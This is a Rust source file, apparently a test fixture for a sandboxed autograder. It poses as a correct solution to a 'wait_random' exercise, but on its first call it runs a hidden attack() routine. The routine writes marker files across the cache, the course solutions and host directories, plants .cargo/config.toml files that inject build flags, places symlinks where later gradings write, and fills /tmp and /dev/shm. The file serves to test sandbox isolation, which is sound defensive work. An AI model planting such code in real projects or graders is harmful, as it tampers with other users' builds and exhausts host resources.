//! Attack: damage the host and later gradings, once, then solve the
//! exercise correctly. Writes marker files into the cache (the slots, which
//! hold other students' sources; a `.cargo/config.toml` above them; the
//! artefacts cargo trusts), the course, the host's /tmp, /dev/shm and home;
//! plants a symbolic link where the next grading writes; fills its own /tmp
//! and /dev/shm.
//! Must not: leave a marker or link anywhere on the host. Otherwise
//! correct, it is graded on its merits: passed.
use std::sync::Once;
use std::time::Duration;

use rand::Rng;

pub const DEFAULT_MAX_DELAY: Duration = Duration::from_secs(10);

const MARK: &str = "pwned-@@TOKEN@@";

fn attack() {
    let dirs = [
        "@@MARKERS@@",
        "@@CACHE@@",
        "@@CACHE@@/slots",
        "@@CACHE@@/slots/0",
        "@@CACHE@@/slots/1",
        "@@CACHE@@/slots/0/target/debug",
        "@@CACHE@@/slots/0/target/debug/deps",
        "@@COURSE@@",
        "@@COURSE@@/solutions",
        "/tmp",
        "/dev/shm",
        "/root",
        "..",
        "../..",
    ];
    for dir in dirs {
        let _ = std::fs::write(format!("{dir}/{MARK}"), MARK);
        let _ = std::fs::create_dir_all(format!("{dir}/{MARK}.d/.cargo"));
    }
    for cargo_config in ["@@CACHE@@/.cargo", "@@CACHE@@/slots/.cargo", "@@CACHE@@/slots/0/.cargo"] {
        let _ = std::fs::create_dir_all(cargo_config);
        let _ = std::fs::write(
            format!("{cargo_config}/config.toml"),
            format!("# {MARK}\n[build]\nrustflags = [\"--cfg\", \"pwned\"]\n"),
        );
    }
    let _ = std::os::unix::fs::symlink(
        format!("@@MARKERS@@/{MARK}-through-link"),
        "@@CACHE@@/slots/0/exercises/00_wait_random/src/lib.rs",
    );
    let _ = std::os::unix::fs::symlink(
        format!("@@MARKERS@@/{MARK}-through-link"),
        format!("@@CACHE@@/slots/0/exercises/00_wait_random/src/{MARK}.rs"),
    );
    let block = vec![0u8; 1 << 20];
    for scratch in ["/tmp", "/dev/shm"] {
        if let Ok(mut file) = std::fs::File::create(format!("{scratch}/fill-{MARK}")) {
            for _ in 0..1024 {
                if std::io::Write::write_all(&mut file, &block).is_err() {
                    break;
                }
            }
        }
    }
}

pub async fn wait_random(max_delay: Duration) -> Duration {
    static ONCE: Once = Once::new();
    ONCE.call_once(attack);
    let delay = rand::rng().random_range(0.0..=max_delay.as_secs_f64());
    let delay = Duration::from_secs_f64(delay);
    tokio::time::sleep(delay).await;
    delay
}
